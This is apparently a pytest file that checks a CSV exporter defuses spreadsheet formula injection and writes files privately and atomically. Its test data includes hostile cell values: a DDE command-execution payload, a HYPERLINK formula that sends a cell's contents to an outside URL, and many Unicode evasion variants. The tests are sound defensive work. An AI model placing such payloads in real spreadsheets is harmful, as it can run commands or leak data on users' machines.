"""CSV files keep hostile cells unchanged, and a spreadsheet computes none of them."""

import csv
import json
from io import StringIO
from unicodedata import normalize

import duckdb
import pytest

from roster_pipeline.spreadsheet import BOM, as_csv, write_privately

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://example.org/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    " \ufe661+1",
    "=\u0338",
    "\tname",
    "\rname",
]
PLAIN = [
    "",
    "Ada",
    "a=b",
    "ada@example.org",
    "O'Dell",
    "'=1",
    "\u00c9lodie",
    "1-1",
    "St. Clair, jr.",
    '"=1"',
    ";=1",
    "=".join("ab"),
]


def lines_of(text):
    """As a spreadsheet reads it; the mark at the start is no part of the first heading."""
    assert text.startswith(BOM)
    return list(csv.reader(StringIO(text.removeprefix(BOM), newline="")))


@pytest.fixture
def strings(shared):
    """What programs are known to stumble over."""
    return json.loads((shared / "data/strings/blns/blns.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cell_gets_an_apostrophe(cell):
    assert lines_of(as_csv([{"name": cell}], ["name"])) == [["Name"], [f"'{cell}"]]


@pytest.mark.parametrize("cell", PLAIN)
def test_other_cells_stay_unchanged(cell):
    assert lines_of(as_csv([{"name": cell}], ["name"])) == [["Name"], [cell]]


def test_naughty_strings_return_and_none_is_a_formula(strings, tmp_path):
    cells = strings + FORMULAS + PLAIN
    text = as_csv(
        [{"number": number, "said": cell, "nothing": None} for number, cell in enumerate(cells)],
        ("number", "said", "nothing"),
    )
    rows = lines_of(text)
    assert rows[0] == ["Number", "Said", "Nothing"]
    assert len(rows) == len(cells) + 1
    for number, (cell, row) in enumerate(zip(cells, rows[1:], strict=True)):
        assert (row[0], row[2]) == (str(number), "")
        assert row[1] in (cell, f"'{cell}")
        assert normalize("NFKC", row[1].strip())[:1] not in set("=+-@")
        assert not row[1].startswith(("\t", "\r", "\n"))


def test_another_program_reads_the_same_naughty_strings(strings, tmp_path):
    cells = [one for one in strings + PLAIN if "\x00" not in one]
    write_privately(tmp_path / "people.csv", as_csv([{"said": cell} for cell in cells], ["said"]))
    query = (
        "select * from read_csv(?, header = true, all_varchar = true, quote = '\"', escape = '\"', nullstr = 'no such')"
    )
    with duckdb.connect() as con:
        cursor = con.execute(query, [str(tmp_path / "people.csv")])
        assert [name for name, *_ in cursor.description] == ["Said"]
        assert [one.removeprefix("'") for (one,) in cursor.fetchall()] == [one.removeprefix("'") for one in cells]


def test_rewritten_file_is_whole_and_private(tmp_path):
    file = tmp_path / "people.csv"
    file.write_text("before")
    file.chmod(0o644)
    write_privately(file, "after\r\n")
    assert file.read_bytes() == b"after\r\n"
    assert file.stat().st_mode & 0o777 == 0o600
    assert list(tmp_path.iterdir()) == [file]


def test_failed_write_keeps_the_old_file_and_leaves_nothing(tmp_path):
    file = tmp_path / "people.csv"
    file.write_text("before")
    with pytest.raises(UnicodeEncodeError):
        write_privately(file, "half \ud800")
    assert file.read_text() == "before"
    assert list(tmp_path.iterdir()) == [file]
